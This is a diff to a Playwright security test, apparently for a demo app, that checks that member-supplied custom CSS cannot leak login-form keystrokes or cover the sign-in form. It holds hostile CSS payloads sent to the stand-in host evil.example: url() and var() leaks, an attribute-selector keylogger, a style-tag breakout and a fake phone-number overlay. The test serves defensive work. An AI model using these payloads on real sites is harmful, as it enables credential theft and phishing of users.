@@ -2,7 +2,8 @@
 // exfiltration routes CSS offers, injected through the demo backend's GENERAL.custom_css, while a
 // member types into the login form; the allowed part still styles the page.
 import type { Page, Request } from '@playwright/test';
-import { DEMO_PASSWORD, accounts, expect, test, type DemoBackend } from './fixtures';
+import { DEMO_PASSWORD, accounts, expect, test } from './fixtures';
+import { injectCustomCss } from './support/custom-css';
 
 /** Another origin: any request to it is a leak (the test aborts it before it leaves). */
 const LEAK = 'http://evil.example/k';
@@ -20,7 +21,7 @@ function hostileCss(typed: string): string {
   });
   return [
     // Allowed: a custom property and a border through var().
-    ':root{--probe:rgb(1, 2, 3)} body{border-top:7px solid var(--probe)}',
+    ':root{--probe:rgb(1, 2, 3)} body{border-top:3px solid var(--probe)}',
     `:root{--k:"${LEAK}";--u:url(${LEAK}?var)}`,
     ...keylogger,
     `body{background-image:var(--u)}`,
@@ -39,14 +40,6 @@ function hostileCss(typed: string): string {
     `form{background:image("${LEAK}?image")}`,
     `a{}</style><img src="${LEAK}?breakout"><style>`,
   ].join('\n');
-}
-
-async function injectCustomCss(page: Page, demo: DemoBackend, css: string) {
-  const channel = (await (await page.request.get('/__demo/state')).json()) as { channel_id: string };
-  const answer = (await (await page.request.get('/wl/v1/platform/config/section/GENERAL', { headers: { 'X-Channel-Id': channel.channel_id } })).json()) as {
-    data: Record<string, unknown>;
-  };
-  await demo.fault({ path: 'platform/config/section/GENERAL', json: { ...answer, data: { ...answer.data, custom_css: css } }, times: 50 });
 }
 
 function offOriginRequests(page: Page, origin: string): string[] {
@@ -80,7 +73,7 @@ test('custom CSS cannot send what a member types anywhere, and still styles the 
   expect(leaks).toEqual([]);
   // The allowed rule applies: the custom property reaches the border.
   await expect(page.locator('body')).toHaveCSS('border-top-color', 'rgb(1, 2, 3)');
-  await expect(page.locator('body')).toHaveCSS('border-top-width', '7px');
+  await expect(page.locator('body')).toHaveCSS('border-top-width', '3px');
   const text = (await css.textContent()) ?? '';
   expect(text).not.toMatch(/@import|@font-face|url\(|image-set|\[value/i);
 });
@@ -94,7 +87,7 @@ test('custom CSS lays no layer over the sign-in form, and keeps the rules before
     page,
     demo,
     [
-      'body { border-top: 7px solid rgb(1, 2, 3) }',
+      'body { border-top: 3px solid rgb(1, 2, 3) }',
       'form::after { content: "Call +420 123 456 789"; display: block; position: fixed; inset: 0; z-index: 2147483647; background: white }',
       'header::before { content: ""; position: absolute; top: 0; left: 0; width: 100vw; height: 100vh; z-index: 99 }',
       '@media screen {',
